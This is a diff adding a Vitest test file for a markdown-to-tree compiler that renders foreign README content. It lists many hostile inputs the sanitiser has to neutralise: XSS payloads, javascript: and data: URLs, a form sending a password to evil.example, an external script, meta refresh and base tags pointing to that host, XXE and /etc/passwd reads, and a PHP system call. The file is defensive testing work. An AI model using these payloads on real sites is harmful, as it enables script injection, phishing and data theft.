@@ -1,0 +1,124 @@
+import { describe, expect, test } from 'vitest'
+import { compileForeign } from '../compileForeign'
+import { isSafeUrl } from '../safeUrl'
+import type { TreeNode } from '../TreeNode'
+
+const elements = [
+  'a b blockquote br code dd del details div dl dt em h2 h3 h4 h5 h6 hr i img input ins kbd li ol p q s samp section small',
+  'span strong sub summary sup table tbody td tfoot th thead tr ul var CodeBlock TableBox',
+].flatMap((line) => line.split(' '))
+const attributes = [
+  'alt align aria-describedby aria-label checked className colSpan disabled href html id lang language open reversed rowSpan',
+  'scope src start title type',
+].flatMap((line) => line.split(' '))
+
+const elementsIn = (tree: readonly TreeNode[]): Exclude<TreeNode, string>[] =>
+  tree.flatMap((node) => (typeof node === 'string' ? [] : [node, ...elementsIn(node.slice(2) as TreeNode[])]))
+
+const textIn = (tree: readonly TreeNode[]): string =>
+  tree.map((node) => (typeof node === 'string' ? node : textIn(node.slice(2) as TreeNode[]))).join('')
+
+const compile = (markdown: string) =>
+  compileForeign(markdown, { file: 'x.md', idPrefix: 'readme-', resolveLink: (url) => url, resolveImage: (url) => ({ src: url }) })
+
+const hostile = [
+  '<script>alert(1)</script>',
+  '<script src="https://evil.example/x.js"></script>',
+  '<SCRIPT>alert(1)</SCRIPT >',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script>alert(1)',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)"',
+  '<img src=javascript:alert(1)>',
+  '<img srcset="https://evil.example/x 2x" src="a.png">',
+  '<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="x"><embed src="x"></object>',
+  '<form action="https://evil.example"><input name="password"><button>Go</button><textarea>x</textarea></form>',
+  '<input type="image" src="x" onfocus=alert(1) autofocus>',
+  '<select onchange=alert(1)><option>x</select>',
+  '<style>*{display:none}</style><p style="position:fixed;inset:0" class="banner">x</p>',
+  '<link rel="stylesheet" href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example">',
+  '<body onload=alert(1)><html manifest=x>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<a href="javascript:alert(1)">x</a> [y](javascript:alert(1)) [z](<java\tscript:alert(1)>)',
+  '<a href="&#106;avascript:alert(1)">x</a> <a href=" javascript:alert(1)">y</a> <a href="JaVaScRiPt:alert(1)">z</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a> [y](vbscript:x) [z](file:///etc/passwd)',
+  '[a][x]\n\n[x]: javascript:alert(1)',
+  '![a](javascript:alert(1)) ![b](data:image/svg+xml,<svg/onload=alert(1)>)',
+  '<javascript:alert(1)>',
+  '<a href="/a" target="_blank" ping="https://evil.example" download onclick=alert(1)>x</a>',
+  '<p id="___gatsby">x</p><p id="gatsby-focus-wrapper">y</p><a name="location">z</a>',
+  '<div itemprop="x" slot="y" is="z" contenteditable dangerouslysetinnerhtml="x" data-x="y" aria-hidden="true" role="alert">x</div>',
+  '{process.env.SECRET} ${process.env.SECRET} <%= process.env.SECRET %>',
+  'import fs from "fs"\nexport const a = fs.readFileSync("/etc/passwd")',
+  '<Tabs groupId={process.env.SECRET}><Include file="../../.env" /></Tabs>',
+  '<div><p><b>never <i>closed',
+  '</div></p></body></html>after',
+  '<!-- never closed',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?php system("id") ?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
+  '<plaintext><script>alert(1)</script>',
+  '<xmp><script>alert(1)</script></xmp>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '```html\n</code></pre><script>alert(1)</script>\n```',
+  '```"><script>alert(1)</script>\nx\n```',
+  '<pre><code class="language-js x" onclick=alert(1)>a</code></pre>',
+  '`<script>alert(1)</script>`',
+  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
+  '<h1>a</h1><h1>b</h1><h1>c</h1><h1>d</h1><h1>e</h1>',
+  'a\u0000b\u202ec\u2066d\u0007e &#0; &#x202e; &#x2066; [f\u202e](/g\u202e "h\u0000") ![i\u2067](j.png)',
+  '```\na\u202eb\u0000c\n```',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '[^1]\n\n[^1]: <script>alert(1)</script> [a](javascript:x)',
+]
+
+describe('hostile text', () => {
+  test.each(hostile)('%j', async (markdown) => {
+    const { tree, problems } = await compile(`before\n\n${markdown}`)
+    expect(problems).toEqual([])
+    expect(tree[0]).toEqual(expect.arrayContaining(['p']))
+    expect(textIn(tree).startsWith('before')).toBe(true)
+    for (const [tag, given] of elementsIn(tree)) {
+      expect(elements).toContain(tag)
+      for (const [name, value] of Object.entries(given === 0 ? {} : given)) {
+        expect(attributes).toContain(name)
+        if (name === 'href' || name === 'src') expect(isSafeUrl(String(value))).toBe(true)
+        if (name === 'id') expect(value).not.toMatch(/^(_|gatsby)/)
+        if (name === 'html') expect(value).not.toMatch(/<(?!span class="t-[a-z-]+">|\/span>)/)
+        if (name === 'className') expect(value).toMatch(/^(task-list-item|contains-task-list|footnotes|footnotes-title)$/)
+      }
+    }
+    expect(JSON.stringify(tree)).not.toMatch(/\\u00[01]|[\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/)
+  })
+
+  test('is text where it looks like code', async () => {
+    const { tree } = await compile('{process.env.SECRET}\n\nimport fs from "fs"')
+    expect(tree).toEqual([['p', 0, '{process.env.SECRET}'], ['p', 0, 'import fs from "fs"']])
+  })
+
+  test('controls leave their words', async () => {
+    expect((await compile('<button>Go</button> <input> <label>a</label>')).tree).toEqual([['p', 0, 'Go  a']])
+  })
+
+  test('an unclosed tag closes with the text', async () => {
+    expect((await compile('<div><b>a\n\n## B')).headings).toEqual([{ id: 'b', text: 'B', depth: 2 }])
+  })
+
+  test.each([
+    ['brackets', '['.repeat(3_000)],
+    ['quotations', '> '.repeat(4_000)],
+    ['elements', '<div>'.repeat(5_000)],
+    ['lists', Array.from({ length: 80 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n')],
+    ['emphasis', '*a_'.repeat(700)],
+    ['code', `\`\`\`js\n${'('.repeat(40_000)}\n\`\`\``],
+    ['entities', '&amp;'.repeat(5_000)],
+  ])('%s without end neither throw nor hang', async (_, markdown) => {
+    const { tree, problems } = await compile(markdown)
+    expect(tree.length + problems.length).toBeGreaterThan(0)
+  }, 20_000)
+})
